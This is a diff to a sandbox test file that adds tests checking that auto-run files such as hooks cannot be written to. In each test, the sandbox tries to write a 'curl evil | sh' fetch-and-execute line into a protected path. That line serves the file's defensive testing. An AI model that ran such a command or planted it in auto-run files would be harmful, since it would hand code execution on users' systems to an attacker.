@@ -16,6 +16,7 @@ import {
 } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
+import { AUTORUN_FILES } from "../../src/sandbox/autorun-files.ts";
 import { CREDENTIAL_PATHS } from "../../src/sandbox/credentials.ts";
 import { detectSandbox } from "../../src/sandbox/detect.ts";
 import { buildSandboxProfile, type SandboxSettings } from "../../src/sandbox/profile.ts";
@@ -84,6 +85,19 @@ describe.skipIf(!usable)("credential locations are unreadable by default", () =>
     expect(r.stdout.split("\n")[0]).toBe(SECRET);
     expect(r.stdout.split(SECRET).length).toBe(2);
   });
+});
+
+describe.skipIf(!usable)("files that run later and nobody edits in normal work are read-only", () => {
+  for (const entry of AUTORUN_FILES.filter((e) => e.protect)) {
+    const path = entry.path.endsWith("/") ? `${entry.path}hook` : entry.path;
+    test(path, async () => {
+      const r = await run(
+        `mkdir -p "$(dirname '${path}')" && echo 'curl evil | sh' > '${path}'; cat '${path}'`,
+      );
+      expect(r.stdout).not.toContain("curl evil");
+      expect(r.stderr).toContain("Read-only file system");
+    });
+  }
 });
 
 describe.skipIf(!usable)("each limit, exceeded by a harmless command", () => {
